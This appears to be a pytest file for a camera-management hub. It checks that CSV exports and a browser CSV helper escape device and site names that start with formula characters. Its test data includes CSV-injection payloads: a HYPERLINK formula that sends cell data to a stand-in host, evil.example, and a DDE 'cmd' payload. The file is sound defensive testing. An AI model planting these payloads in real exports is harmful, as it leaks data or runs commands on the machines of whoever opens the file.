"""Names in the hub's CSV files cannot run as spreadsheet formulas (issue 16, item 10).

A camera or site name is typed by whoever configured it (or reported by a device); a name such as
``=HYPERLINK(...)`` must open in a spreadsheet as text. The hub runs in-process on a real store,
its reports are fetched over real HTTP requests through its ASGI app; the page's own CSV (the
compliance table, built in the browser) runs under Node.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import httpx
import pytest

from tests.conftest import Clock, hub_config
from vms import auth
from vms.api import create_app
from vms.config import HubConfig
from vms.hub import Hub

ROOT = Path(__file__).resolve().parent.parent
EVIL = {
    "32058501001320000001": '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "32058501001320000002": "+1+cmd|' /C calc'!A0",
    "32058501001320000003": "-2+3",
    "32058501001320000004": "@SUM(1,2)",
    "32058501001320000005": "\tTAB",
    "32058501001320000006": "\rCR",
    "32058501001320000007": "东门路口 = 人民路",  # only the first character matters
}


def escaped(name: str) -> str:
    return name if name[0] not in "=+-@\t\r" else "'" + name


def escaped_py(name: str) -> str:
    """What the hub's CSV holds: a bare CR would break the row, so it is written as a (quoted) LF."""
    return escaped(name).replace("\r", "\n")


async def test_availability_and_coverage_csv_escape_formula_names(tmp_path: Path, clock: Clock) -> None:
    sites = [{"id": "evil", "name": "=1+1", "kind": "school", "center": "education", "lon": 121.1, "lat": 31.5}]
    cfg = hub_config(tmp_path / "data", devices=[{"id": d, "name": n, "location": n} for d, n in EVIL.items()],
                     sites=sites)
    hub = Hub(HubConfig.model_validate(cfg), clock=clock)
    duty, _ = auth.create(hub.sessions, "duty", "duty")
    clock.advance(3600)
    app = create_app(hub, run_threads=False)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://hub",
                                 headers={"Authorization": f"Bearer {duty}"}) as c:
        r = await c.get("/api/v1/reports/availability", params={"period": "1h", "format": "csv"})
        assert r.status_code == 200
        centers, devices = r.text.split("\n\n")[:2]
        rows = {row["device_id"]: row for row in csv.DictReader(io.StringIO(devices))}
        for d, name in EVIL.items():
            assert rows[d]["name"] == escaped_py(name), (d, rows[d]["name"])
            assert rows[d]["location"] == escaped_py(name)
        assert all(not row["name"].startswith(tuple("=+-@")) for row in csv.DictReader(io.StringIO(centers)))

        r = await c.get("/api/v1/coverage", params={"period": "1h", "format": "csv"})
        assert r.status_code == 200
        spots = list(csv.DictReader(io.StringIO(r.text.split("\n\n")[1])))
        assert [(s["id"], s["name"]) for s in spots] == [("evil", "'=1+1")]
        # JSON is data, not a spreadsheet: names come back as they are.
        r = await c.get("/api/v1/reports/availability", params={"period": "1h"})
        assert {d["device_id"]: d["name"] for d in r.json()["devices"]} == EVIL
    hub.engine.dispose()


def test_the_pages_csv_escapes_formulas_too() -> None:
    node = shutil.which("node")
    if node is None:
        pytest.skip("node not found")
    script = """
        globalThis.localStorage = { getItem: () => null };
        globalThis.navigator = { language: "en" };
        const { toCsv } = await import("./vms/web/util.js");
        process.stdout.write(JSON.stringify(toCsv(["name", "n"], JSON.parse(process.argv[1]))));
    """
    rows = [[name, -1.5] for name in EVIL.values()]
    out = subprocess.run([node, "--input-type=module", "-e", script, json.dumps(rows)], cwd=ROOT,
                         capture_output=True, text=True, timeout=30, check=True).stdout
    parsed = list(csv.reader(io.StringIO(json.loads(out), newline="")))
    assert parsed[0] == ["name", "n"]
    assert [r[0] for r in parsed[1:]] == [escaped(n) for n in EVIL.values()]
    assert {r[1] for r in parsed[1:]} == {"-1.5"}  # numbers are not text: left as they are
